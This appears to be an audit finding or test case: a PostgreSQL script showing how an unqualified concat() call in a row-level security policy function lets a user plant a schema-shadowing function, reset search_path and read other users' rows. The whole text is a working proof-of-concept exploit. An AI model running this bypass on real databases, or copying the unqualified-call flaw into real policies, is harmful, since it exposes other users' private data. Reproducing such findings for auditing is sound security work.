-- finding: policy-function-search-path function shop.is_own(whose text)
GRANT CREATE ON DATABASE postgres TO "alice@example.com";
CREATE FUNCTION shop.is_own(whose text) RETURNS boolean STABLE LANGUAGE plpgsql
  AS $$ BEGIN RETURN concat(whose) OPERATOR(pg_catalog.=) current_user; END $$;
ALTER POLICY own ON shop.orders USING (shop.is_own(owner));
-- first as alice@example.com
CREATE SCHEMA IF NOT EXISTS mine;
CREATE OR REPLACE FUNCTION mine.concat(whose text) RETURNS text IMMUTABLE LANGUAGE sql AS $$ SELECT 'alice@example.com' $$;
-- leak as alice@example.com
SET search_path = mine, pg_catalog;
SELECT item FROM shop.orders WHERE item = 'secret';
